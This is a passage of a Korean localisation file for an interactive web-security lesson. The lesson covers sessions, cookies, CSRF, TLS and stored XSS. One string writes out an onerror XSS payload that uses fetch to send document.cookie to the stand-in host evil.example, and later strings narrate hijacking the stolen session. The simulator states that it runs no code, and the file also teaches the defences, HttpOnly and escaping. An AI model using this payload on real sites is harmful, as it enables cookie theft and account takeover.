        '미나가 같은 연결로 로그인합니다. 서버가 ID를 새로 발급하고 user_id 152를 저장합니다. 로그인 세션이 시작됩니다.',
      beat3:
        '곧바로 마이페이지를 엽니다. 같은 연결, 같은 쿠키로 200입니다. 이제 타임라인의 세 가지가 모두 열려 있습니다.',
    },
    'kinds-pause': {
      title: '잠깐 쉬면 연결만 끝납니다',
      body: '미나가 2분 동안 글을 읽다가 마이페이지를 엽니다. 서버는 마지막 요청 5초 뒤에 쉬고 있던 연결을 닫았습니다(Node의 keep-alive 타임아웃). 그래서 브라우저가 새 연결을 엽니다. 로그인은 연결에 들어 있지 않습니다. 쿠키가 요청과 함께 가니 페이지가 열립니다(200).',
    },
    'kinds-close': {
      title: '브라우저를 닫으면',
      body: '미나가 Chrome을 닫았다가 다시 켭니다. 브라우저 세션이 끝났고, <memcookie>세션 쿠키</memcookie>도 함께 사라졌습니다. 마이페이지는 401로 답합니다. 지금 쿠키 저장소에 보이는 connect.sid는 서버가 401과 함께 새로 내준 빈 세션의 것입니다. 그런데 <book>손님 기록부</book>에는 로그인된 세션이 그대로 있습니다. 서버의 로그인 세션은 끝나지 않았고, 미나의 브라우저가 그 세션을 가리킬 수 없게 된 것뿐입니다. 만료 시간(maxAge)이 없으면 express-session의 MemoryStore는 서버가 다시 시작될 때까지 이 세션을 간직합니다.',
    },
    'kinds-idle': {
      title: '오래 쉬면 로그인 세션이 끝납니다',
      body: '이제 쇼핑몰이 cookie.maxAge를 30분으로 정하고, 응답할 때마다 30분을 처음부터 다시 셉니다. 미나가 다시 로그인합니다. 탭을 열어 둔 채 자리를 비웠다가 31분 뒤에 돌아옵니다. 브라우저 세션은 끝나지 않았지만 로그인 세션은 끝났습니다. 요청 없이 30분이 지나면 끝나는 것, 이것이 <idle>유휴 시간 제한</idle>입니다. 쿠키는 쿠키 저장소에서, 세션은 세션 저장소에서 만료되었으니 마이페이지는 401로 답합니다.',
      beat1:
        '미나가 다시 로그인합니다. 이번 Set-Cookie에는 30분 뒤의 Expires가 붙고, 응답할 때마다 그만큼 뒤로 밀립니다.',
      beat2:
        '31분 뒤 마이페이지를 엽니다. 쿠키가 이미 만료되어 쿠키 저장소에서 사라졌으니 아무것도 보내지 않고, 401을 받습니다.',
    },
    'xss-reviews': {
      title: '방문자가 쓴 글을 보여 주는 페이지',
      body: '쇼핑몰에 후기 기능이 생겼습니다. 누구나 후기를 쓸 수 있고, 후기 페이지에 모두 나옵니다. Firefox의 방문자가 별 다섯 개를 주고 점수 5/5를 굵게 하는 마크업으로 감싸 쓰자, 정말 굵게 나옵니다. 쇼핑몰이 방문자가 입력한 내용을 HTML에 그대로 써 넣기 때문에, 방문자의 마크업이 페이지의 일부가 됩니다. 미나는 Chrome에서 로그인해 있습니다. 이 장의 쇼핑몰은 세션 ID 쿠키에 HttpOnly를 붙이지 않습니다.',
      beat1:
        '미나가 Chrome에서 로그인합니다. Set-Cookie 줄을 보세요. 세션 ID 쿠키에 HttpOnly가 없습니다.',
      beat2:
        'Firefox의 방문자가 굵게 하는 마크업을 넣어 후기를 올립니다. 쇼핑몰이 그대로 페이지에 써 넣으니 정말 굵게 나옵니다.',
    },
    'xss-payload': {
      title: '코드인 후기',
      body: "이번에는 방문자가 후기인 척하는 코드를 씁니다. 주소가 x인(불러올 수 없는) 이미지에 onerror 속성을 단 것입니다. 이미지를 불러오지 못하면 브라우저는 onerror의 코드를 실행합니다. fetch('https://evil.example/?c='+document.cookie)는 document.cookie로 보이는 것을 전부 evil.example로 보냅니다. 쇼핑몰은 이것도 여느 후기처럼 저장합니다. 방문자 자신의 브라우저가 먼저 이 페이지를 보여 주므로, evil.example에는 벌써 요청이 하나 와 있습니다. 방문자 자신의 쿠키라서 쓸모는 없습니다. 여기서는 어떤 코드도 실행되지 않습니다. 시뮬레이터가 마크업을 읽고 브라우저라면 무엇을 할지 따져 볼 뿐입니다.",
    },
    'xss-victim': {
      title: '미나가 후기를 엽니다',
      body: '미나가 후기 페이지를 엽니다. 저장된 마크업은 쇼핑몰 페이지의 일부로 도착하므로, 그 스크립트는 쇼핑몰의 스크립트로 실행됩니다. HttpOnly가 없으니 document.cookie에 미나의 세션 <cookie>쿠키</cookie>가 보이고, 미나의 브라우저가 그것을 evil.example로 보냅니다. 미나 눈에 보이는 건 깨진 이미지 하나뿐입니다. 이것이 저장형 <xss>XSS</xss>입니다.',
    },
    'xss-hijack': {
      title: '도둑이 미나가 됩니다',
      body: '도둑이 evil.example의 기록에서 connect.sid를 가져와 Firefox의 쿠키에 넣고 마이페이지를 엽니다. 200, 미나의 페이지, user_id 152입니다. 서버가 보는 건 유효한 세션 ID뿐입니다. 훔친 쿠키는 로그인과 다를 바 없습니다. 비밀번호를 몰라도 되는 <hijack>세션 하이재킹</hijack>입니다.',
    },
    'xss-httponly': {
      title: 'HttpOnly는 도난을 막습니다',
      body: '세션 ID 쿠키에 <httponly>HttpOnly</httponly>를 다시 붙입니다(express-session의 cookie.httpOnly, 기본값은 켜짐). 세션은 처음 만들어질 때의 쿠키 설정을 그대로 유지하므로, 미나가 다시 로그인해서 새 쿠키를 받습니다. 미나가 후기를 엽니다. 스크립트는 여전히 실행되고 evil.example도 여전히 부르지만, document.cookie에는 더 이상 connect.sid가 없습니다. 도난은 막았지만 주입은 막지 못했습니다. 스크립트는 여전히 미나의 페이지에서 실행됩니다.',
      beat1: '미나가 다시 로그인해 새 세션을 받습니다. 이번 Set-Cookie는 HttpOnly로 끝납니다.',
      beat2:
        '미나가 후기를 엽니다. 스크립트는 돌고 evil.example도 부르지만, document.cookie가 비어 있어 기록에는 c= 뒤에 아무것도 없습니다.',
    },
    'xss-escape': {
      title: '이스케이프는 주입을 막습니다',
      body: '이제 쇼핑몰이 방문자가 쓴 글을 페이지에 넣기 전에 이스케이프합니다(escape-html은 꺾쇠를 &lt;로 바꿉니다). 미나가 후기를 엽니다. 페이로드는 입력된 그대로 글자로 보이고, 아무것도 실행되지 않으며, evil.example에는 아무것도 오지 않습니다. 출력 이스케이프는 원인을 고치고, HttpOnly는 어느 한 곳을 놓쳤을 때 피해를 줄입니다. 실제 쇼핑몰은 둘 다 합니다.',
    },
  },
  crossSite: {
    did: '{{who}}: {{method}} {{path}}, evil.example이 시작한 요청',
    didOpen: '{{who}}에서 evil.example을 엽니다',
    didBack: '{{who}}에서 쇼핑몰로 돌아갑니다',
    refused: '금지됨(403): 폼의 CSRF 토큰이 없거나 맞지 않습니다.',
    about:
      'SameSite와 CSRF: evil.example은 수업 화면 안에 그린 것으로, 다른 사이트에 접속하지 않으며 그 페이지의 어떤 부분도 스크립트로 실행되지 않습니다. 이미지, 폼, 링크에 어떤 쿠키가 실리는지는 쿠키 저장소가 RFC 6265bis의 same-site 규칙으로 정합니다. Chrome과 Edge는 SameSite 없는 쿠키를 Lax로 다루고 2분짜리 Lax+POST 예외를 두며, Firefox와 Safari는 None으로 다룹니다. 쿠키 저장소의 테스트가 이를 tough-cookie와 비교합니다. 서드파티 쿠키 차단과 분리(Safari의 추적 방지, Firefox의 전체 쿠키 보호)는 시뮬레이션하지 않습니다. 실제 두 브라우저에서는 이 때문에 다른 사이트의 이미지에도 쇼핑몰 쿠키가 실리지 않습니다. 이 수업은 SameSite만으로 정해지는 것을 보여 줍니다. CSRF 토큰은 csrf-sync의 방식(세션에 토큰을 두고 _csrf로 돌려받으며, 아니면 403)을 따르고, express-session에만 구현했습니다. 토큰은 무작위 32바이트(csrf-sync의 size: 32, 기본값은 128)이며, 테스트가 실제 csrf-sync를 Express에서 나란히 돌려 비교합니다.',
    page: {
      back: '쇼핑몰로 돌아가기',
      title: '경품에 당첨되셨습니다!',
      lead: '축하합니다! 지금 상품권을 받으세요.',
      image: 'prize.png ← https://shop.example/me: 쇼핑몰의 응답 {{status}}',
      claim: '받기',
      link: 'shop.example에서 주문 확인하기',
      source: '페이지 소스 보기',
    },
    trace: {
      'csrf-ok': '폼의 CSRF 토큰이 세션의 토큰과 일치',
      'csrf-bad': '폼에 맞는 CSRF 토큰 없음 → 403',
      'csrf-made': '새 CSRF 토큰({{token}})을 세션에 저장하고 모든 폼에 넣음',
      'csrf-kept': '세션의 CSRF 토큰({{token}})을 모든 폼에 넣음',
    },
    hiddenField: '이 폼에 숨은 필드',
  },
  cookieStore: {
    about:
      '쇼핑몰은 세션을 쿠키 안에 통째로 담을 수도 있습니다. npm 패키지 cookie-session 2.1이 하는 그대로, session 쿠키에는 base64 JSON을, session.sig에는 HMAC-SHA1 서명을 넣습니다. 서명일 뿐 암호화는 아닙니다. 테스트가 진짜 패키지를 express에서 같은 키와 같은 방문으로 나란히 돌려 Set-Cookie 줄을 모두 비교합니다. 관리자 페이지(401, 403, 200)도 여기와 express-session에서 같은 방식으로 비교하고, 다른 스택에서는 쇼핑몰의 공통 라우트로만 동작합니다. 바이트 그래프의 세션 ID 쪽은 손님의 요청을 express-session으로 다시 계산한 값입니다.',
    title: 'cookie-session: 쿠키가 곧 세션',
    code: '쇼핑몰 코드',
    lifetime:
      '데이터가 마지막으로 바뀌고 30분이 지나면 쿠키가 만료됩니다(maxAge). 서버는 아무것도 보관하지 않습니다.',
    empty:
      '지금 이 브라우저에는 session 쿠키가 없습니다. 아직 받지 않았거나, 만료됐거나, 지워진 경우입니다.',
    cookie: '{{who}} 쿠키에 적힌 내용',
    value: 'session (base64)',
    decoded: '풀어 본 내용: base64 → JSON',
    undecodable: 'base64 JSON이 아닙니다. 서버는 빈 세션으로 시작합니다.',
    sig: 'session.sig',
    sigNote:
      '서버의 키로 “session=<값>”을 HMAC-SHA1한 값입니다. 이 바이트가 서버가 쓴 그대로인지 알려 줄 뿐, 아무것도 숨기지 않습니다.',
    chart: {
      title: '이번 방문에서 요청마다 보낸 바이트',
      caption:
        '막대 한 쌍이 {{who}}의 요청 하나입니다. 쿠키 기반 세션(데이터가 쿠키 안에)으로 보낸 크기와, 그 요청을 세션 ID(connect.sid)로 보냈을 때의 크기입니다. 뒤의 것은 같은 요청을 express-session으로 다시 계산한 값입니다.',
      cookieStore: '쿠키 기반 세션',
      sessionId: '세션 ID',
      request: '요청 {{n}}: {{method}} {{path}}',
      bar: '{{kind}}: {{bytes}}바이트',
      none: '아직 쿠키 기반 세션으로 보낸 요청이 없습니다.',
      loading: 'express-session으로 다시 계산하는 중…',
    },
    compare: {
      title: '방금 해 본 일로 비교하기',
      aspect: '항목',
      cookieStore: '쿠키 기반 세션(cookie-session)',
      sessionId: '세션 ID(express-session)',
      storage: '데이터가 있는 곳',
      security: '공격자가 할 수 있는 일',
      speed: '요청마다 드는 비용',
      lifetime: '끝나는 때',
      storageCookie_one:
        '브라우저에 있습니다. 쿠키 {{count}}개에 {{bytes}}바이트. 손님 기록부는 0줄이고, 서버는 아무것도 보관하지 않습니다.',
      storageCookie_other:
        '브라우저에 있습니다. 쿠키 {{count}}개에 {{bytes}}바이트. 손님 기록부는 0줄이고, 서버는 아무것도 보관하지 않습니다.',
      storageSession:
        '서버에 있습니다. 손님마다 기록부에 한 줄씩, 메모리나 Redis에. 브라우저는 ID만 갖고 있습니다.',
      storageGoneCookie:
        '이제 어디에도 없습니다. 쿠키 두 개가 만료되어 브라우저가 버렸습니다(마지막으로 보낼 때 {{bytes}}바이트). 손님 기록부도 0줄이니 세션은 아무 데도 남지 않았습니다.',
      storageNoneCookie: '아직 어디에도 없습니다. 서버가 쿠키를 보내지 않았습니다.',
      securityGoneCookie:
        '남아 있는 동안에는 누구나 읽을 수 있었습니다: {{json}}. 고치면 서명이 맞지 않아 거절됐습니다. 서명은 암호화가 아닙니다.',
      expires: 'Expires {{time}}',
      expired: '{{time}}에 만료됨',
      securityCookie:
        '읽기: {{json}}. 고치기: 서명이 맞지 않아 거절됩니다. 서명은 암호화가 아닙니다.',
      securitySession:
        'ID는 무작위라 아무 뜻도 없습니다. 데이터가 서버 밖으로 나가지 않으니 읽을 것이 없습니다.',
      speedCookie:
        '물어볼 저장소는 없지만, 쿠키를 실어 보낸 마지막 요청에 쿠키만 {{bytes}}바이트가 실렸고 장바구니가 늘수록 더 커집니다(브라우저는 쿠키 하나에 4KB쯤에서 멈춥니다).',
      speedSession:
        '요청마다 저장소를 한 번 조회하지만, 세션에 무엇이 들었든 쿠키는 {{bytes}}바이트 그대로입니다.',
      lifetimeCookie:
        '쿠키의 Expires까지, 즉 데이터가 마지막으로 바뀐 뒤 30분입니다. 로그아웃은 이 브라우저의 쿠키만 지울 뿐, 그 전에 복사해 둔 쿠키는 계속 통합니다.',
      lifetimeSession:
        '서버가 정합니다. 유휴 시간이 지나거나 로그아웃으로 기록이 지워지면, 그 ID의 사본은 모두 한꺼번에 쓸모가 없어집니다.',
    },
    trace: {
      read: '서명 확인: 쿠키에서 세션을 그대로 읽음: {{data}}',
      new: '쿠키에 쓸 만한 것이 없음: 빈 세션 {}',
      unreadable: '서명은 맞지만 base64 JSON이 아님: 빈 세션 {}',
      write: '세션 전체를 base64로 쿠키에 담고 서명: {{data}}',
      clear: 'req.session = null: 쿠키 두 개를 지움',
    },
  },
  xss: {
    title: '후기: 보온 머그컵',
    by: '작성자: {{name}}',
    guest: '방문자',
    none: '아직 후기가 없습니다.',
    form: '후기 쓰기',
    post: '후기 올리기',
    errors: { empty: '먼저 내용을 써 주세요.', 'too-long': '후기는 500자까지 쓸 수 있습니다.' },
    brokenImage: '불러오지 못한 이미지',
    tag: '<{{tag}}> (안의 글자만 보여 줌)',
    reading: '실제 브라우저라면 이 후기로 무엇을 할까',
    about: '여기서는 아무것도 실행되지 않습니다: 시뮬레이터가 후기를 읽는 방법',
    aboutDialog:
      '손으로 해 보는 XSS: 후기에 든 스크립트는 하나도 실행되지 않습니다. 후기 페이지는 후기의 HTML을 분석한 모델에서 단순한 요소로만 그리고, 브라우저라면 무엇을 할지 따져 봅니다. 알아보는 것은 <script>, src가 있는 이미지의 onerror, <svg>·<body>·<iframe>의 onload, autofocus와 onfocus이고, 그 코드 안에서는 document.cookie, alert(), 따옴표 안 주소로 보내는 요청입니다. 코드를 실행하지는 않습니다. 보내는 요청은 그 주소 뒤에 그 브라우저의 document.cookie 값을 붙인 것입니다. evil.example로 가는 요청은 통신 회선에 그리지 않고 그 서버의 기록에만 나옵니다.',
    readingNote:
      '실행하지 않고 따져 본 결과입니다. 시뮬레이터는 마크업을 읽을 뿐입니다. 알아보는 것은 <script>, 이미지의 onerror(여기서는 어떤 이미지도 불러와지지 않음), <svg>·<body>·<iframe>의 onload, autofocus와 onfocus이고, 코드에서는 document.cookie, alert(), 그리고 따옴표 안 주소로 요청을 보내는 fetch(), 이미지의 src, location, sendBeacon입니다. 그 밖의 것은 짐작하지 않고 알아보지 못했다고 알립니다.',
    trigger: {
      script: '<script>는 페이지를 불러올 때 실행됩니다.',
      'image-fails': '<{{tag}}>를 불러오지 못해서 {{attr}}가 실행됩니다.',
      loads: '<{{tag}}>가 로드되어 {{attr}}가 실행됩니다.',
      autofocus: 'autofocus로 <{{tag}}>에 포커스가 가서 {{attr}}가 실행됩니다.',
    },
    external: '{{src}}에서 코드를 불러옵니다. 시뮬레이터는 그 코드를 볼 수 없습니다.',
    readsCookie: 'document.cookie를 읽습니다. 이 브라우저에서 그 값은:',
    emptyCookie: '(비어 있음: 스크립트가 읽을 수 있는 쿠키가 없음)',
    sends: '요청을 보내는 곳:',
    alerts: '알림 창을 엽니다(여기서는 띄우지 않음).',
    notUnderstood: '실행은 되지만 시뮬레이터가 알아보지 못하는 코드라서 더 보여 줄 것이 없습니다.',
    waits:
      '<{{tag}}>의 {{attr}}는 클릭이나 마우스 올리기 같은 일이 먼저 있어야 실행됩니다. 여기서는 실행하지 않습니다.',
    escapedNote:
      '쇼핑몰이 이스케이프했습니다. 마크업이 글자로 도착해서 아무것도 실행되지 않습니다.',
    source: '페이지 소스: 서버가 HTML에 써 넣은 후기',
    settings: {
      escape: '후기를 페이지에 넣을 때 이스케이프(escape-html)',
      code: '후기 페이지의 템플릿',
    },
    log: {
      title: 'evil.example: 서버가 받은 요청',
      note: '후기 페이지를 보여 준 브라우저가 보낸 요청이며, 최근 것이 위에 옵니다. 위의 통신 회선에는 쇼핑몰과 주고받은 것만 나옵니다.',
      empty: '아직 받은 요청이 없습니다.',
      from: '보낸 곳: {{browser}} · {{ip}}',
      cookies: '주소에 담긴 쿠키:',
      noCookies: '쿠키가 없습니다.',
      use: '{{browser}}에 {{name}} 넣기',
      useHint: '쿠키를 넣을 브라우저의 탭을 먼저 연 뒤 버튼을 누르세요.',
    },
  },
  secure: {
    cafe: '카페 와이파이 안내 페이지의 링크',
    cafeTitle: '카페 와이파이 안내 페이지',
    typed: '또는 https로 직접 입력:',
    eavesdropper: {
      title: '카페 네트워크에서 보이는 것',
      http: '일반 http: Cookie 헤더까지 모든 바이트가 그대로 보입니다.',
      https:
        'https: 요청이 TLS 안에 담겨 갑니다. 보이는 것은 서버 이름과 크기뿐, 헤더는 한 줄도 안 보입니다.',
      sealed: 'TLS 애플리케이션 데이터 {{bytes}}바이트, 암호화됨',
      server: '서버 이름(SNI): {{host}}',
      simplified:
        '단순화: 실제 TLS에는 핸드셰이크와 TLS 자체의 바이트가 더 있습니다. 다만 무엇이 보이고 무엇이 가려지는지는 실제와 같습니다.',
    },
  },
  kinds: {
    title: '{{browser}}의 세 가지 세션',
    slider: '타임라인의 순간',
    lanes: {
      connection: '연결(TCP, keep-alive)',
      browser: '브라우저 세션',
      login: '로그인 세션',
    },
    state: {
      open: '열림',
      closed: '닫힘',
      in: '로그인됨',
      lost: '서버에는 남아 있지만 이 브라우저가 쿠키를 잃음',
      out: '없음',
    },
    moment: {
      request: '{{request}} → {{status}}',
      'connection-closed': '서버가 쉬고 있던 연결을 닫음',
      'browser-closed': '브라우저를 닫음',
      'login-expired': '로그인 세션 만료: 너무 오래 쉼',
    },
    newConnection: '새 연결',
    newBrowser: '브라우저 시작',
    legend: {
      on: '열림 / 로그인됨',
      lost: '서버에만 남음',
      off: '닫힘 / 없음',
    },
    empty: '이 장에서는 아직 요청이 없습니다.',
    note: '이 장에서 오간 요청으로 그렸습니다. 눈금 하나가 한 순간이며 시간 비율은 맞추지 않았습니다. 단순화: 브라우저마다 연결을 하나로 그렸고(실제 브라우저는 사이트마다 여섯 개까지 엽니다), 서버는 keep-alive 타임아웃(Node 기본 5초)이 지나면 연결을 닫습니다.',
  },
  authz: {
    trace: {
      'role-ok': '관리자 계정: 허용',
      'role-bad': '로그인은 했지만 관리자가 아님 → 403',
    },
    page: {
      title: '관리자: 전체 계정',
      caption: '쇼핑몰의 계정과 각 계정이 할 수 있는 일',
      name: '이름',
      role: '역할',
      forbidden: '{{name}} 님은 로그인했지만, 이 페이지는 관리자만 볼 수 있습니다. (403)',
    },
  },
};
